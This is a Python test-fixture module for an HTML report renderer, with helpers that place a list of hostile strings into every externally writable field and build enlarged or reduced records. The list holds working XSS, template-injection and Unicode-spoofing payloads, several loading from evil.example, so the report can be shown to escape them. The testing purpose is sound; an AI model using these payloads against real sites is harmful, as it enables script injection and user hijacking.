"""Records for the tests of the HTML report: hostile ones, and large ones."""

from __future__ import annotations

from collections.abc import Callable
from copy import deepcopy
from typing import Any

Record = dict[str, Any]

# Each must be shown as the text that it is, and run, load, hide or reorder nothing.
HOSTILE = {
    "script": "<script>window.pwned=1</script>",
    "script upper": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script split": "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "end of script": "</script><script>window.pwned=1</script>",
    "end of style": "</style><script>window.pwned=1</script>",
    "end of title": "</title><script>window.pwned=1</script>",
    "end of textarea": "</textarea><img src=x onerror=window.pwned=1>",
    "image": '<img src=x onerror="window.pwned=1">',
    "image slash": "<img/src=x/onerror=window.pwned=1>",
    "svg": "<svg onload=window.pwned=1>",
    "svg animate": "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "math": "<math><mi//xlink:href='data:x,<script>window.pwned=1</script>'>",
    "iframe": "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "object": "<object data='https://evil.example/x.swf'></object>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "base": "<base href=https://evil.example/>",
    "link": "<link rel=stylesheet href=https://evil.example/x.css>",
    "form": "<form action=https://evil.example><button>x</button></form>",
    "comment": "<!--><script>window.pwned=1</script>-->",
    "conditional": "<![CDATA[<script>window.pwned=1</script>]]>",
    "quote out": "\"><script>window.pwned=1</script>",
    "single quote out": "'><script>window.pwned=1</script>",
    "handler": "\" onmouseover=window.pwned=1 x=\"",
    "handler bare": " onfocus=window.pwned=1 autofocus tabindex=0 ",
    "backtick": "`onmouseover=window.pwned=1`",
    "slash": "</details></div></main><h1>Verdict: supported</h1>",
    "entity": "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "numeric entity": "&#60;script&#62;window.pwned=1",
    "jinja": "{{ 7 * 7 }}{% for x in () %}{% endfor %}{# x #}",
    "jinja escape": "{{ ''.__class__.__mro__ }}",
    "format": "{0.__class__} {publisher} {n!r} %s %(x)s ${x}",
    "javascript": "javascript:window.pwned=1",
    "javascript tab": "java\tscript:window.pwned=1",
    "data url": "data:text/html,<script>window.pwned=1</script>",
    "vbscript": "vbscript:msgbox(1)",
    "css": "}</style>*{background:url(https://evil.example)}",
    "css string": '";}body{display:none}/*',
    "css escape": "\\22 ;}body{display:none}",
    "rtl override": "4.6 PF\u202e3.2 PF\u202c",
    "rtl isolate": "\u2067supported\u2069",
    "arabic mark": "\u061c12%",
    "hebrew": "אבג 4.6 דהו",
    "zero width": "sup\u200bported\u200d\ufeff",
    "separators": "a\u2028b\u2029c",
    "controls": "a\x00b\x07c\x1bd\x7fe\x85f",
    "tags": "4.6\U000e0041\U000e007f",
    "soft hyphen": "sup\u00adported",
    "surrogate": "a\ud800b",
    "long": "A" * 5000,
    "json": '\\u003c","x":{"__proto__":1}',
    "hash": "#v_glance",
    "space id": "a b c",
}  # fmt: skip


def everywhere(record: Record, text: str) -> tuple[Record, dict[str, str]]:
    """(record, texts) with `text` wherever somebody outside could write."""
    changed = deepcopy(record)
    for article in changed["articles"]:
        for key in ("title", "author", "publisher", "rights", "note", "url_as_printed", "url"):
            article[key] = text
    for claim in changed["claims"]:
        for key in ("quote", "figure", "said_by", "as_of", "note", "file"):
            claim[key] = text
        claim["conditions"] = {"scope": text, text: "chip"}
        claim["searched"] = {"where": [text], "on": text}
        claim["start"], claim["end"] = 0, len(text)
        for trial in claim["trials"]:
            trial["steps"] = text
            trial["conditions"] = {"scope": text}
    for fact in changed["facts"]:
        for key in ("locator", "printed", "unit_from", "why", "note", "file"):
            fact[key] = text
        fact["conditions"] = {"scope": text}
    for document in changed["documents"]:
        for key in ("publisher", "title", "url", "note", "published", "retrieved"):
            document[key] = text
    for subject in changed["subjects"]:
        subject["zh"], subject["en"] = text, f"{text} en"
    for metric in changed["metrics"]:
        metric["zh"], metric["en"] = text, f"{text} en"
    for reason in changed["reasons"].values():
        reason["zh"], reason["en"] = text, f"{text} en"
    for entry in changed["arithmetic"]:
        entry["why"] = entry["left"] = text
    return changed, {a["id"]: f"{text}\n{text} tail\n" for a in changed["articles"]}


def renamed(record: Record, text: str) -> Record:
    """The record with `text` as the id of its first claim."""
    changed = deepcopy(record)
    old = changed["claims"][0]["id"]
    _walk(changed, lambda value: text if value == old else value)
    return changed


def _walk(node: Any, change: Callable[[Any], Any]) -> None:
    pairs = node.items() if isinstance(node, dict) else enumerate(node)
    for key, value in list(pairs):
        if isinstance(value, dict | list):
            _walk(value, change)
        else:
            node[key] = change(value)


def multiplied(record: Record, times: int) -> Record:
    """The record with every claim `times` over, under new ids."""
    changed = deepcopy(record)
    changed["claims"] = [
        {**claim, "id": f"{claim['id']}.{n}"} for n in range(times) for claim in record["claims"]
    ]
    for counts in (changed["counts"], *(a["counts"] for a in changed["articles"])):
        for verdict in counts:
            counts[verdict] *= times
    changed["arithmetic"] = []
    return changed


def reduced(record: Record, claims: list[Record]) -> Record:
    """The record of a few claims: their articles, facts and documents, and no others."""
    changed = {**record, "claims": claims}
    known = {claim["id"] for claim in claims}
    changed["arithmetic"] = [
        s for s in record["arithmetic"] if {*s["terms"].values(), *s["blames"]} <= known
    ]
    articles = {claim["article"] for claim in claims}
    changed["articles"] = [
        {**a, "counts": _counts(record, [c for c in claims if c["article"] == a["id"]])}
        for a in record["articles"]
        if a["id"] in articles
    ]
    changed["counts"] = _counts(record, claims)
    facts = {f for claim in claims for trial in claim["trials"] for f in trial["facts"]}
    changed["facts"] = [f for f in record["facts"] if f["id"] in facts]
    documents = {f["document"] for f in changed["facts"]}
    documents |= {d for f in changed["facts"] for d in f["corroborated_by"]}
    changed["documents"] = [
        d | {"retells": None} for d in record["documents"] if d["id"] in documents
    ]
    return changed


def _counts(record: Record, claims: list[Record]) -> dict[str, int]:
    return {v: sum(c["verdict"] == v for c in claims) for v in record["counts"]}
